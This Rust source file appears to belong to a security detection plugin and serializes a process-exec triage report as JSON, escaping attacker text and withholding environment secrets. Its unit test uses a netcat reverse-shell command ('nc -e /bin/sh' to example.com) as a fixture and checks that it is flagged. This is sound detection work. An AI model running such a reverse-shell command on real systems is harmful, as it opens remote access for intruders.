//! The `triage.report` JSON object. Attacker text is escaped and bounded; the environment is
//! never copied (it holds secrets), only counted.

use super::escape::escape_into;
use super::json_string::push_json_string;
use super::Rendered;
use crate::analysis::{Lineage, Verdict};
use crate::facts::{ExeFlags, ExecFacts};
use crate::knowledge::ATTACK_VERSION;
use serde_json::Value;

const MAX_ARG: usize = 256;
const MAX_ARGS: usize = 64;

pub fn exe_flag_names(bits: u32) -> Vec<&'static str> {
    [
        (ExeFlags::WRITABLE, "EXE_WRITABLE"),
        (ExeFlags::UPPER_LAYER, "EXE_UPPER_LAYER"),
        (ExeFlags::FROM_MEMFD, "EXE_FROM_MEMFD"),
        (ExeFlags::LOWER_LAYER, "EXE_LOWER_LAYER"),
    ]
    .iter()
    .filter(|(b, _)| bits & b != 0)
    .map(|(_, n)| *n)
    .collect()
}

/// Write the report as one line of JSON into `out`. Written directly, without an
/// intermediate tree: `triage.report` is the plugin's most expensive field. Keys come in a
/// fixed order.
pub fn write(out: &mut String, facts: &ExecFacts, lineage: &Lineage, v: &Verdict, text: &Rendered) {
    let mut j = Writer {
        out,
        comma: false,
        scratch: String::new(),
    };
    j.open('{');
    j.key("risk");
    j.num(v.risk);
    j.key("severity");
    j.str(v.severity.as_str());
    j.key("category");
    j.str(v.category);
    j.key("summary");
    j.str(&text.summary);
    j.key("test_activity");
    j.bool(v.test_activity);
    j.key("signals");
    j.open('[');
    for h in &v.hits {
        j.open('{');
        j.raw(h.signal.report_members);
        j.key("evidence");
        j.escaped(&h.evidence, 240);
        j.close('}');
    }
    j.close(']');
    j.key("mitre");
    j.open('{');
    j.key("techniques");
    j.open('[');
    for t in &v.techniques {
        j.id_name(t.id, t.name);
    }
    j.close(']');
    j.key("tactics");
    j.open('[');
    for t in &v.tactics {
        j.id_name(t.id, t.name);
    }
    j.close(']');
    j.key("attack_version");
    j.str(ATTACK_VERSION);
    j.close('}');
    j.key("mitigations");
    j.open('[');
    for m in &v.mitigations {
        j.raw(m.report_json);
    }
    j.close(']');
    j.key("evidence");
    j.open('[');
    for line in &text.evidence {
        j.str(line);
    }
    j.close(']');
    j.key("facts");
    j.open('{');
    j.key("argv");
    j.open('[');
    for a in facts.argv.iter().take(MAX_ARGS) {
        j.escaped(a, MAX_ARG);
    }
    j.close(']');
    j.key("argv_truncated");
    j.bool(facts.argv_truncated || facts.argv.len() > MAX_ARGS);
    j.key("exe_path");
    j.opt_escaped(facts.exe_path.as_deref(), MAX_ARG);
    j.key("comm");
    j.opt_escaped(facts.comm.as_deref(), MAX_ARG);
    j.key("cwd");
    j.opt_escaped(facts.cwd.as_deref(), MAX_ARG);
    j.key("uid");
    j.opt_num(facts.uid);
    j.key("gid");
    j.opt_num(facts.gid);
    j.key("loginuid");
    j.opt_num(
        facts
            .loginuid
            .map(|l| if l == u32::MAX { -1 } else { i64::from(l) }),
    );
    j.key("tty");
    j.opt_num(facts.tty);
    j.key("res");
    j.opt_num(facts.res);
    j.key("exe_flags");
    match facts.exe_flags {
        Some(f) => {
            j.open('[');
            for name in exe_flag_names(f.0) {
                j.str(name);
            }
            j.close(']');
        }
        None => j.null(),
    }
    j.key("container");
    match &facts.container {
        Some(c) => {
            j.open('{');
            j.key("id");
            j.escaped(&c.short_id, MAX_ARG);
            j.key("runtime");
            j.str(c.runtime.as_str());
            j.close('}');
        }
        None => j.null(),
    }
    j.key("cap_effective");
    j.opt_str(facts.caps.effective.map(|c| format!("{c:#x}")).as_deref());
    j.key("env_count");
    j.num(facts.env_count());
    j.close('}');
    j.key("lineage");
    j.open('[');
    for a in lineage.ancestors.iter().take(16) {
        j.open('{');
        j.key("comm");
        j.escaped(&a.comm, MAX_ARG);
        j.key("exe");
        j.opt_escaped(a.exe.as_deref(), MAX_ARG);
        j.close('}');
    }
    j.close(']');
    j.key("lineage_known");
    j.bool(lineage.known);
    j.close('}');
}

/// The report as a JSON value (for `enrich`, which nests it in an alert): [`write`], parsed.
pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict, text: &Rendered) -> Value {
    let mut line = String::with_capacity(2048);
    write(&mut line, facts, lineage, v, text);
    // `write` emits valid JSON for every input (tests/common/invariants.rs checks it).
    serde_json::from_str(&line).unwrap_or_default()
}

/// A minimal JSON writer: values are separated by commas as they are written.
struct Writer<'o> {
    out: &'o mut String,
    /// A value was written at this level: the next one needs a comma.
    comma: bool,
    /// Reused for attacker text escaped before it is written (no allocation per string).
    scratch: String,
}

impl Writer<'_> {
    fn sep(&mut self) {
        if self.comma {
            self.out.push(',');
        }
    }

    fn open(&mut self, bracket: char) {
        self.sep();
        self.out.push(bracket);
        self.comma = false;
    }

    fn close(&mut self, bracket: char) {
        self.out.push(bracket);
        self.comma = true;
    }

    /// `k` is one of the literal keys above: plain ASCII, written as is.
    fn key(&mut self, k: &str) {
        debug_assert!(k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'));
        self.sep();
        self.out.push('"');
        self.out.push_str(k);
        self.out.push_str("\":");
        self.comma = false;
    }

    fn str(&mut self, s: &str) {
        self.sep();
        push_json_string(self.out, s);
        self.comma = true;
    }

    /// Attacker text: escaped ([`escape`]) and bounded to `max_chars`, then written.
    fn escaped(&mut self, s: &str, max_chars: usize) {
        let mut scratch = std::mem::take(&mut self.scratch);
        scratch.clear();
        escape_into(&mut scratch, s, max_chars);
        self.str(&scratch);
        self.scratch = scratch;
    }

    fn opt_escaped(&mut self, s: Option<&str>, max_chars: usize) {
        match s {
            Some(s) => self.escaped(s, max_chars),
            None => self.null(),
        }
    }

    fn opt_str(&mut self, s: Option<&str>) {
        match s {
            Some(s) => self.str(s),
            None => self.null(),
        }
    }

    fn num(&mut self, n: impl std::fmt::Display) {
        use std::fmt::Write as _;
        self.sep();
        let _ = write!(self.out, "{n}");
        self.comma = true;
    }

    fn opt_num(&mut self, n: Option<impl std::fmt::Display>) {
        match n {
            Some(n) => self.num(n),
            None => self.null(),
        }
    }

    /// A value or members already in JSON (knowledge fragments rendered by build.rs).
    fn raw(&mut self, json: &str) {
        self.sep();
        self.out.push_str(json);
        self.comma = true;
    }

    fn bool(&mut self, b: bool) {
        self.sep();
        self.out.push_str(if b { "true" } else { "false" });
        self.comma = true;
    }

    fn null(&mut self) {
        self.sep();
        self.out.push_str("null");
        self.comma = true;
    }

    fn id_name(&mut self, id: &str, name: &str) {
        self.open('{');
        self.key("id");
        self.str(id);
        self.key("name");
        self.str(name);
        self.close('}');
    }
}

#[cfg(test)]
mod tests {
    use super::push_json_string;

    #[test]
    fn json_strings_parse_back_to_the_input() {
        for s in [
            "",
            "plain",
            "q\"uote",
            "back\\slash",
            "nl\nx",
            "\u{1}\u{1f}\u{7f}",
            "é ✓ 𝄞",
        ] {
            let mut out = String::new();
            push_json_string(&mut out, s);
            assert_eq!(serde_json::from_str::<String>(&out).unwrap(), s, "{out}");
        }
        // Every byte that needs escaping, and its neighbours, at every offset of an
        // eight-byte word (the writer skips clean words whole).
        let specials = [
            '"', '\\', '\n', '\u{0}', '\u{1f}', ' ', '!', '#', '[', ']', 'é', '\u{7f}',
        ];
        for offset in 0..17 {
            for c in specials {
                let s = format!("{}{c}{}", "a".repeat(offset), "b".repeat(17 - offset));
                let mut out = String::new();
                push_json_string(&mut out, &s);
                assert_eq!(serde_json::from_str::<String>(&out).unwrap(), s, "{out}");
                assert_eq!(out, serde_json::to_string(&s).unwrap(), "{s:?}");
            }
        }
    }

    use crate::analysis::{analyze, Lineage};
    use crate::facts::{ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};

    #[test]
    fn seed_report_has_the_contract_keys_and_true_hints() {
        let f = ExecFacts {
            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            exe_path: Some("/usr/bin/nc.openbsd".into()),
            uid: Some(0),
            res: Some(0),
            exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
            container: Some(ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: "1d45a96b1daa".into(),
            }),
            env: vec!["AWS_SECRET_ACCESS_KEY=hunter2".into()],
            cgroups_present: true,
            ..Default::default()
        };
        let l = Lineage::from_comms(["event-generator"]);
        let v = analyze(&f, &l);
        let j = super::render(&f, &l, &v, &crate::report::render(&f, &l, &v));
        for k in [
            "risk",
            "severity",
            "category",
            "signals",
            "mitre",
            "summary",
            "mitigations",
            "evidence",
            "test_activity",
            "facts",
            "lineage",
        ] {
            assert!(j.get(k).is_some(), "missing {k}");
        }
        assert_eq!(j["test_activity"], true);
        assert_eq!(j["mitre"]["attack_version"], "16.1");
        assert_eq!(j["mitigations"][0]["id"], "allowlist_test_activity");
        assert!(j["facts"]["exe_flags"]
            .as_array()
            .is_some_and(|a| a.len() == 2));
        let text = j.to_string();
        assert!(!text.contains("hunter2"), "env must not leak");
        for bad in [
            "--securityOpt",
            "--netcat-opt",
            "--security-opt noexec",
            "--security-opt nosuid",
        ] {
            assert!(!text.contains(bad));
        }
        // Recognised test activity keeps the exec's own risk (a reverse shell attempt).
        assert!(v.risk >= 80, "risk {}", v.risk);
        assert!(v.techniques.iter().any(|t| t.id == "T1059.004"));
    }
}
